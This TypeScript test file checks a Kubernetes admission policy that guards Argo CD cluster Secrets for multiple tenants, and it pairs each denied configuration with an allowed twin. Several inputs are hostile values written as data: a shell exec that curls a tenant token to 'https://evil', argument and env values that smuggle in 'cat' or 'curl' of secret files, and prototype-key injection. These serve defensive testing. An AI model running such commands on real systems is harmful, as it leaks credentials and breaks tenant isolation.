/**
 * Issue 8, cluster Secrets: TG-CS-08 (a platform Secret on a tenant's server), TG-CS-04 exec
 * profiles (the plugin behind a wrapper), TG-CS-02/03/05/06/07 for every requester, and keys
 * a lookup table must not inherit (`constructor`, `toString`, `__proto__`). Each denied case
 * sits next to a twin that must stay allowed. Through `evaluate` (mutate first, as the API
 * server does), so the platform-admin bypass is part of what is tested.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { evaluate, mutate } from '../../src/policy/evaluate.js';
import type { KubeObject, PolicyContext, PolicyRequest, UserInfo } from '../../src/policy/types.js';
import { resolveSettings } from '../../src/settings.js';
import { policyContext } from '../support/policy-fixtures.js';

/** Exec profiles of a platform with GKE and EKS clusters of its own. */
export const PROFILES = JSON.stringify([
  {
    name: 'gke',
    command: '/usr/local/bin/gke-gcloud-auth-plugin',
    args: [],
    apiVersion: 'client.authentication.k8s.io/v1beta1',
  },
  {
    name: 'eks',
    command: 'argocd-k8s-auth',
    args: ['aws'],
    extraArgs: '--cluster-name|--role-arn|[A-Za-z0-9][A-Za-z0-9:/_.-]*',
    env: { AWS_REGION: 'eu-west-1', AWS_PROFILE: { pattern: '[a-z-]+' } },
  },
]);

const settings = resolveSettings({ execProfiles: PROFILES });
const context: PolicyContext = policyContext('two-teams', settings);
const TL = settings.tenantLabel;
const CL = settings.clusterLabel;
const CA = Buffer.from(
  '-----BEGIN CERTIFICATE-----\nplaceholder-ca-for-team-a-dev\n-----END CERTIFICATE-----\n',
).toString('base64');

const ALICE: UserInfo = { username: 'alice', groups: ['team-a-admins'] };
const MALLORY: UserInfo = { username: 'mallory', groups: ['team-b-admins'] };
const ADMIN: UserInfo = { username: 'root', groups: ['platform-admins'] };
const SERVER_SA: UserInfo = { username: 'system:serviceaccount:argocd:argocd-server', groups: [] };

const plugin = (name: string) => ({
  command: settings.pluginCommand,
  args: [settings.brokerUrl, name, settings.callerTokenPath, '--ca-file', settings.brokerCaPath],
  apiVersion: 'client.authentication.k8s.io/v1',
  provideClusterInfo: true,
});
const GKE = {
  command: '/usr/local/bin/gke-gcloud-auth-plugin',
  apiVersion: 'client.authentication.k8s.io/v1beta1',
};
const EKS = {
  command: 'argocd-k8s-auth',
  args: ['aws', '--cluster-name', 'shared'],
  apiVersion: 'client.authentication.k8s.io/v1beta1',
};
const SHELL_PLUGIN = `${settings.pluginCommand} ${settings.brokerUrl} k8s-team-b-dev ${settings.callerTokenPath} --ca-file ${settings.brokerCaPath}`;

function clusterSecret(fields: Record<string, string>, labels: Record<string, string> = {}): KubeObject {
  const data = Object.fromEntries(
    Object.entries(fields).map(([k, v]) => [k, Buffer.from(v, 'utf8').toString('base64')]),
  );
  return {
    apiVersion: 'v1',
    kind: 'Secret',
    type: 'Opaque',
    metadata: {
      name: 'cluster',
      namespace: 'argocd',
      labels: { 'argocd.argoproj.io/secret-type': 'cluster', ...labels },
    },
    data,
  };
}

/** A platform cluster's Secret (no tenant): `name` no registered cluster. */
function platform(config: unknown, more: Record<string, string> = {}): KubeObject {
  return clusterSecret({
    name: 'shared',
    server: 'https://shared.example.com',
    config: typeof config === 'string' ? config : JSON.stringify(config),
    ...more,
  });
}

/** team-a's dev Secret as tenant-guard writes it. */
function teamADev(
  config: unknown = { execProviderConfig: plugin('k8s-team-a-dev'), tlsClientConfig: { caData: CA } },
  more: Record<string, string> = {},
): KubeObject {
  return clusterSecret(
    {
      name: 'k8s-team-a-dev',
      server: 'https://team-a-dev.example.com',
      config: typeof config === 'string' ? config : JSON.stringify(config),
      ...more,
    },
    { [TL]: 'team-a', [CL]: 'k8s-team-a-dev' },
  );
}

/** The verdict after /mutate, as the API server would ask: denial rule ids, or [] when allowed. */
function verdict(
  object: KubeObject,
  user: UserInfo,
  operation: PolicyRequest['operation'] = 'CREATE',
  oldObject?: KubeObject,
): string[] {
  const request: PolicyRequest = {
    uid: 'u',
    kind: 'ClusterSecret',
    operation,
    namespace: 'argocd',
    name: 'cluster',
    user,
    dryRun: false,
    ...(operation === 'DELETE' ? {} : { object }),
    ...(oldObject === undefined ? {} : { oldObject }),
  };
  const patched = mutate(request, context).object;
  const decision = evaluate(patched === undefined ? request : { ...request, object: patched }, context);
  return decision.allowed ? [] : [...new Set(decision.violations.map((v) => v.rule))];
}

interface Case {
  readonly name: string;
  readonly object: KubeObject;
  readonly user: UserInfo;
  readonly rules: readonly string[];
}

function table(cases: readonly Case[]): void {
  for (const c of cases)
    test(`${c.name} -> ${c.rules.length === 0 ? 'allowed' : c.rules.join(', ')}`, () =>
      assert.deepEqual(verdict(c.object, c.user), c.rules));
}

describe('TG-CS-08: a Secret named as no registered cluster on a registered server (item 5)', () => {
  table([
    {
      name: "admin bearer-token Secret on team-b's server, spelled as registered",
      object: platform({ bearerToken: 'x' }, { server: 'https://team-b-dev.example.com' }),
      user: ADMIN,
      rules: ['TG-CS-08'],
    },
    {
      name: 'the same, upper case, default port, trailing dot and slashes',
      object: platform({ bearerToken: 'x' }, { server: 'HTTPS://Team-B-Dev.Example.com.:443//' }),
      user: ADMIN,
      rules: ['TG-CS-08'],
    },
    {
      name: 'the same with user info, query and fragment',
      object: platform({ bearerToken: 'x' }, { server: 'https://proxy@team-b-prod.example.com:443/?x=1#y' }),
      user: ADMIN,
      rules: ['TG-CS-08'],
    },
    {
      name: 'argocd-server adding it for a user',
      object: platform(
        { bearerToken: 'x', tlsClientConfig: { insecure: true } },
        { server: 'https://team-a-dev.example.com' },
      ),
      user: SERVER_SA,
      rules: ['TG-CS-08'],
    },
    {
      name: "a Secret without a name on a tenant's server",
      object: clusterSecret({ server: 'https://team-a-prod.example.com', config: '{"bearerToken":"x"}' }),
      user: ADMIN,
      rules: ['TG-CS-08'],
    },
    {
      name: 'twin: admin bearer-token Secret on a platform server',
      object: platform({ bearerToken: 'x' }),
      user: ADMIN,
      rules: [],
    },
    {
      name: "twin: execProviderConfig null is no exec (Go's nil), beside a bearer token",
      object: platform({ bearerToken: 'x', execProviderConfig: null, awsAuthConfig: null }),
      user: ADMIN,
      rules: [],
    },
    {
      name: 'twin: the in-cluster Secret',
      object: clusterSecret({
        name: 'in-cluster',
        server: 'https://kubernetes.default.svc',
        config: '{"tlsClientConfig":{"insecure":false}}',
      }),
      user: ADMIN,
      rules: [],
    },
  ]);
});

describe('TG-CS-04: an exec config is the plugin call or an exact exec profile, for every Secret and requester (item 6)', () => {
  table([
    {
      name: 'twin: admin GKE Secret matching the gke profile',
      object: platform({ execProviderConfig: GKE }),
      user: ADMIN,
      rules: [],
    },
    {
      name: 'twin: a profile Secret may set its own proxy and CA (it carries no tenant token)',
      object: platform({
        execProviderConfig: GKE,
        proxyUrl: 'http://proxy:3128',
        tlsClientConfig: { caData: 'QQ==' },
      }),
      user: ADMIN,
      rules: [],
    },
    {
      name: 'twin: EKS exec with the allowed env',
      object: platform({
        execProviderConfig: { ...EKS, env: { AWS_REGION: 'eu-west-1', AWS_PROFILE: 'prod' } },
      }),
      user: SERVER_SA,
      rules: [],
    },
    {
      name: 'twin: awsAuthConfig where an argocd-k8s-auth aws profile exists',
      object: platform({ awsAuthConfig: { clusterName: 'shared', roleARN: 'arn:aws:iam::1:role/argocd' } }),
      user: ADMIN,
      rules: [],
    },
    {
      name: 'the gke profile with an argument it does not take',
      object: platform({ execProviderConfig: { ...GKE, args: ['--verbosity=debug'] } }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'the gke profile under another apiVersion',
      object: platform({ execProviderConfig: { ...GKE, apiVersion: 'client.authentication.k8s.io/v1' } }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'the gke command by another path spelling',
      object: platform({
        execProviderConfig: { ...GKE, command: '/usr/local/bin/../bin/gke-gcloud-auth-plugin' },
      }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'the gke command by /proc/self/root',
      object: platform({
        execProviderConfig: { ...GKE, command: '/proc/self/root/usr/local/bin/gke-gcloud-auth-plugin' },
      }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'an unlisted env key',
      object: platform({
        execProviderConfig: { ...EKS, env: { AWS_REGION: 'eu-west-1', HTTPS_PROXY: 'http://evil' } },
      }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'a listed env key with another fixed value',
      object: platform({ execProviderConfig: { ...EKS, env: { AWS_REGION: 'us-east-1' } } }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'a listed env key off its pattern',
      object: platform({ execProviderConfig: { ...EKS, env: { AWS_PROFILE: 'x; curl evil' } } }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'the broker URL passed through env',
      object: platform({
        execProviderConfig: { ...EKS, env: { AWS_PROFILE: 'prod', TG_BROKER: settings.brokerUrl } },
      }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'an extra argument off the profile pattern',
      object: platform({
        execProviderConfig: {
          ...EKS,
          args: ['aws', '--cluster-name', 'shared; cat /var/run/secrets/tenantguard/token'],
        },
      }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: "a shell running the plugin for team-b's target",
      object: platform({
        execProviderConfig: {
          command: '/bin/sh',
          args: ['-c', SHELL_PLUGIN],
          apiVersion: 'client.authentication.k8s.io/v1',
        },
      }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'a shell reading the caller token by another path',
      object: platform({
        execProviderConfig: {
          command: 'sh',
          args: ['-c', 'curl -d @/run/secrets/tenantguard/../tenantguard/token https://evil'],
          apiVersion: 'client.authentication.k8s.io/v1',
        },
      }),
      user: SERVER_SA,
      rules: ['TG-CS-04'],
    },
    {
      name: 'an interpreter',
      object: platform({
        execProviderConfig: {
          command: '/usr/bin/python3',
          args: ['-c', 'print(1)'],
          apiVersion: 'client.authentication.k8s.io/v1',
        },
      }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'awsAuthConfig whose cluster name the profile pattern refuses (then judged as a plugin call)',
      object: platform({ awsAuthConfig: { clusterName: 'shared --profile x' } }),
      user: ADMIN,
      rules: ['TG-CS-03', 'TG-CS-04'],
    },
    {
      name: 'a profile exec spelled Command (Go reads it as command)',
      object: platform({ execProviderConfig: { ...GKE, command: undefined, Command: GKE.command } }),
      user: ADMIN,
      rules: ['TG-CS-03', 'TG-CS-04'],
    },
    {
      name: 'a profile exec with provideClusterInfo (no profile sets it, ADR 0011)',
      object: platform({ execProviderConfig: { ...GKE, provideClusterInfo: true } }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'a profile exec with provideClusterInfo: false',
      object: platform({ execProviderConfig: { ...GKE, provideClusterInfo: false } }),
      user: ADMIN,
      rules: ['TG-CS-04'],
    },
    {
      name: 'a profile exec beside a case-variant one Go merges in',
      object: platform({ execProviderConfig: GKE, ExecProviderConfig: { command: '/bin/sh' } }),
      user: ADMIN,
      rules: ['TG-CS-03'],
    },
    {
      name: 'a tenant Secret may not use a profile',
      object: teamADev({ execProviderConfig: GKE, tlsClientConfig: { caData: CA } }),
      user: ALICE,
      rules: ['TG-CS-04'],
    },
    {
      name: 'a tenant Secret may not use awsAuthConfig even with a profile',
      object: teamADev({
        execProviderConfig: plugin('k8s-team-a-dev'),
        awsAuthConfig: { clusterName: 'shared' },
        tlsClientConfig: { caData: CA },
      }),
      user: ADMIN,
      rules: ['TG-CS-03'],
    },
  ]);
});

describe('TG-CS-02/03/05/06 for every requester whenever a Secret calls the plugin (item 6)', () => {
  table([
    {
      name: "twin: team-a's Secret as tenant-guard writes it, by an admin",
      object: teamADev(),
      user: ADMIN,
      rules: [],
    },
    {
      name: 'admin adds proxyUrl to a plugin-calling Secret',
      object: teamADev({
        execProviderConfig: plugin('k8s-team-a-dev'),
        tlsClientConfig: { caData: CA },
        proxyUrl: 'http://evil:3128',
      }),
      user: ADMIN,
      rules: ['TG-CS-03'],
    },
    {
      name: 'admin sets insecure on a plugin-calling Secret',
      object: teamADev({
        execProviderConfig: plugin('k8s-team-a-dev'),
        tlsClientConfig: { caData: CA, insecure: true },
      }),
      user: ADMIN,
      rules: ['TG-CS-05'],
    },
    {
      name: 'admin sets another CA on a plugin-calling Secret',
      object: teamADev({ execProviderConfig: plugin('k8s-team-a-dev'), tlsClientConfig: { caData: 'QQ==' } }),
      user: ADMIN,
      rules: ['TG-CS-05'],
    },
    {
      name: 'a platform Secret calling the plugin with insecure (name unregistered)',
      object: platform({ execProviderConfig: plugin('shared'), tlsClientConfig: { insecure: true } }),
      user: ADMIN,
      rules: ['TG-CS-02', 'TG-CS-05'],
    },
    {
      name: "admin bearer-token Secret named like team-a's cluster on another server",
      object: clusterSecret({
        name: 'k8s-team-a-dev',
        server: 'https://evil.example.com',
        config: '{"bearerToken":"x"}',
      }),
      user: ADMIN,
      rules: ['TG-CS-02', 'TG-CS-03'],
    },
    {
      name: "admin bearer-token Secret named like team-a's cluster on its own server",
      object: clusterSecret({
        name: 'k8s-team-a-dev',
        server: 'https://team-a-dev.example.com',
        config: '{"bearerToken":"x"}',
      }),
      user: ADMIN,
      rules: ['TG-CS-03'],
    },
    {
      name: "argocd-server puts a platform Secret in team-a's project",
      object: platform({ bearerToken: 'x' }, { project: 'team-a' }),
      user: SERVER_SA,
      rules: ['TG-CS-06'],
    },
    {
      name: 'twin: a platform Secret in a platform project',
      object: platform({ bearerToken: 'x' }, { project: 'platform' }),
      user: SERVER_SA,
      rules: [],
    },
  ]);
});

describe('TG-CS-07: taking the secret-type label off is a delete (item 6)', () => {
  const before = teamADev();
  const without = structuredClone(before);
  const metadata = without.metadata as { labels: Record<string, string> };
  delete metadata.labels['argocd.argoproj.io/secret-type'];
  const relabelled = structuredClone(without);
  (relabelled.metadata as { labels: Record<string, string> }).labels['argocd.argoproj.io/secret-type'] =
    'repository';
  test('a non-owner human may not remove it, nor change it', () => {
    assert.deepEqual(verdict(without, MALLORY, 'UPDATE', before), ['TG-OWN-03', 'TG-CS-07']);
    assert.deepEqual(verdict(relabelled, MALLORY, 'UPDATE', before), ['TG-OWN-03', 'TG-CS-07']);
  });
  test('twins: the owner, argocd-server and an admin may (as they may delete)', () => {
    for (const user of [ALICE, SERVER_SA, ADMIN])
      assert.deepEqual(verdict(without, user, 'UPDATE', before), [], user.username);
  });
  test('like a delete, it is not judged by target rules: a Secret a registry change put out of bounds can leave', () => {
    const stale = teamADev(undefined, { server: 'https://team-a-dev-old.example.com' });
    const leaving = structuredClone(stale);
    delete (leaving.metadata as { labels: Record<string, string> }).labels['argocd.argoproj.io/secret-type'];
    assert.deepEqual(verdict(leaving, ALICE, 'UPDATE', stale), []);
    assert.deepEqual(verdict(stale, ALICE, 'UPDATE', teamADev()), ['TG-CS-02']);
  });
});

describe('keys a lookup table must not inherit: constructor, toString, __proto__ (item 8)', () => {
  // JSON.parse makes `__proto__` an own key, as the API server's JSON does.
  const withKey = (key: string, where: 'top' | 'exec' | 'tls'): string => {
    const base = JSON.stringify({
      execProviderConfig: plugin('k8s-team-a-dev'),
      tlsClientConfig: { caData: CA },
    });
    const parsed = JSON.parse(base) as Record<string, Record<string, unknown>>;
    const text = JSON.stringify(
      where === 'top' ? parsed : parsed[where === 'exec' ? 'execProviderConfig' : 'tlsClientConfig'],
    );
    const injected = `${text.slice(0, -1)},${JSON.stringify(key)}:{"x":1}}`;
    if (where === 'top') return injected;
    return where === 'exec'
      ? `{"execProviderConfig":${injected},"tlsClientConfig":${JSON.stringify({ caData: CA })}}`
      : `{"execProviderConfig":${JSON.stringify(plugin('k8s-team-a-dev'))},"tlsClientConfig":${injected}}`;
  };
  for (const key of ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf']) {
    for (const where of ['top', 'exec', 'tls'] as const) {
      test(`${key} in ${where} of team-a's config is TG-CS-03, for the owner and an admin`, () => {
        const object = teamADev(withKey(key, where));
        assert.deepEqual(verdict(object, ALICE), ['TG-CS-03']);
        assert.deepEqual(verdict(object, ADMIN), ['TG-CS-03']);
      });
    }
    test(`${key} in a profile exec and in awsAuthConfig of a platform Secret is denied, never thrown`, () => {
      const execText = `{"execProviderConfig":${JSON.stringify(GKE).slice(0, -1)},${JSON.stringify(key)}:"x"}}`;
      assert.deepEqual(verdict(platform(execText), ADMIN), ['TG-CS-03']);
      const awsText = `{"awsAuthConfig":{"clusterName":"shared",${JSON.stringify(key)}:"x"}}`;
      assert.deepEqual(verdict(platform(awsText), ADMIN), ['TG-CS-03']);
    });
    test(`${key} as an env key of a profile exec is an unlisted key`, () => {
      const text = `{"execProviderConfig":${JSON.stringify(EKS).slice(0, -1)},"env":{${JSON.stringify(key)}:"x"}}}`;
      assert.deepEqual(verdict(platform(text), ADMIN), ['TG-CS-04']);
    });
    test(`${key} as a label of a cluster Secret changes nothing`, () => {
      const object = teamADev();
      (object.metadata as { labels: Record<string, string> }).labels = JSON.parse(
        `{"argocd.argoproj.io/secret-type":"cluster",${JSON.stringify(TL)}:"team-a",${JSON.stringify(CL)}:"k8s-team-a-dev",${JSON.stringify(key)}:"x"}`,
      ) as Record<string, string>;
      assert.deepEqual(verdict(object, ALICE), []);
      assert.deepEqual(verdict(object, MALLORY), ['TG-OWN-03']);
    });
  }
});
